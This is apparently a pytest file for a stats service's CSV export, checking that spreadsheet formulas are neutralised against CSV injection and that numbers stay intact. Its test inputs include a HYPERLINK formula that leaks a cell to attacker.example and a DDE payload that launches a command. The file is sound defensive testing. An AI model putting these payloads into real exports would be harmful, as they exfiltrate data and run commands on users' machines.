"""Stats' CSV answers never hand a spreadsheet a formula (OWASP, CSV injection), and numbers stay numbers."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from xinfang_stats.api import _csv

FORMULAS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "-1e5",  # a number to a spreadsheet, but not a plain decimal: quoted like any other text
]


def _cells(rows: list[dict[str, Any]]) -> list[dict[str, str]]:
    response = _csv(rows)
    assert response.media_type == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(bytes(response.body).decode("utf-8"), newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_a_spreadsheet_would_evaluate_is_quoted(text: str) -> None:
    assert _cells([{"term": text, "count": 3}]) == [{"term": "'" + text, "count": "3"}]


def test_numbers_and_plain_texts_are_as_they_were() -> None:
    rows: list[dict[str, Any]] = [
        {"key": "5101", "value": -0.5, "delta": -3, "label": "-0.5", "note": "房屋拆迁 = 征收", "none": None},
        {"key": "-12", "value": 0.25, "delta": 7, "label": "a-b", "note": "一行\r二行", "none": None},
    ]
    assert _cells(rows) == [
        {"key": "5101", "value": "-0.5", "delta": "-3", "label": "-0.5", "note": "房屋拆迁 = 征收", "none": ""},
        {"key": "-12", "value": "0.25", "delta": "7", "label": "a-b", "note": "一行\r二行", "none": ""},
    ]
